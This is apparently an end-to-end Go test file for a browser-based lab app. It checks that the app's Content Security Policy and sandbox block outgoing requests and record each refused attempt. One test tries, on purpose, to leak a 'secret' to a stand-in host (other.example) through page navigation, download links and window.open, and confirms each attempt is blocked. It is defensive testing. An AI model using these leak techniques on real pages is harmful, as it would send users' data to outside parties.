package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp/kb"

	"drnet/engine/protocol"
)

// The page lists its requests, lets the user test the block, and reports the refused requests.
func TestPrivacy(t *testing.T) {
	t.Parallel()
	p := openReady(t, visit{width: 1440, height: 1000})
	p.click("Private · Verify")
	p.waitText("#asked", "0 requests since the page was ready")
	p.waitText("#refused", "Nothing tried")
	p.waitText("#privacy-panel", "Your browser says that the network is on.")
	listed := eval[[]string](p, `[...document.querySelectorAll("#requests li")].map((e) => e.textContent)`)
	for _, want := range []string{"the page itself", "style.css", "app.wasm", "engine-worker.js"} {
		if !strings.Contains(strings.Join(listed, "\n"), want) {
			t.Errorf("the list lacks %s: %q", want, listed)
		}
	}
	if text := p.text("#privacy-panel"); strings.Contains(text, "What your browser lacks") {
		t.Errorf("Chromium lacks something: %s", text)
	}
	p.shot("privacy-1440")
	p.expect("Content Security Policy|violat|Refused|Failed to load|connect-src")
	p.click("Test the block: try to send a request")
	p.waitText("#tried", "Refused.")
	p.waitText("#refused", "may-this-page-send-anything, by the rule connect-src")
	p.resize(390, 800)
	p.shot("privacy-390")
	p.click("Share")
	p.waitJS("one panel", `!document.querySelector("#privacy-panel") && document.querySelector("#share-panel")`)
	p.press(kb.Escape)
	p.waitJS("no panel, and the focus on its button", `!document.querySelector("#share-panel") && document.activeElement.id === "share"`)
	p.click("More")
	p.click("About")
	p.waitText("#version", "DR-Net Lab "+protocol.Release+". Build ")
	p.waitText("#about-view", "go-app")
	if n := eval[int](p, `[...document.querySelectorAll("#about-view .digest")]
		.filter((e) => /^[0-9a-f]{64}$/.test(e.textContent)).length`); n < 15 {
		t.Errorf("%d files have a digest", n)
	}
	eval[bool](p, `document.querySelector("#about-view").scrollIntoView(), true`)
	p.shot("about-390")
	p.fits("about")
}

// A script cannot navigate away to send data, and the page lists the attempt.
func TestGuardsNavigation(t *testing.T) {
	t.Parallel()
	p := openReady(t, visit{})
	here := eval[string](p, "location.href")
	for _, away := range []string{"http://other.example/?secret", "?secret", "icon.svg?secret"} {
		eval[bool](p, fmt.Sprintf(`(location.href = %q, true)`, away))
		eval[bool](p, fmt.Sprintf(`(() => { const a = document.createElement("a"); a.href = %q; a.download = "x";
			document.body.append(a); a.click(); a.remove(); return true; })()`, away))
	}
	p.click("Private · Verify") // browsers let a page open windows only after a click
	if eval[bool](p, `window.open("http://other.example/?secret") !== null`) {
		t.Error("the page opened a window")
	}
	p.expect("Blocked opening|sandbox")
	p.waitText("#refused", "other.example/?secret, to leave this page")
	if now := eval[string](p, "location.href"); now != here {
		t.Errorf("the page is at %s, want %s", now, here)
	}
}
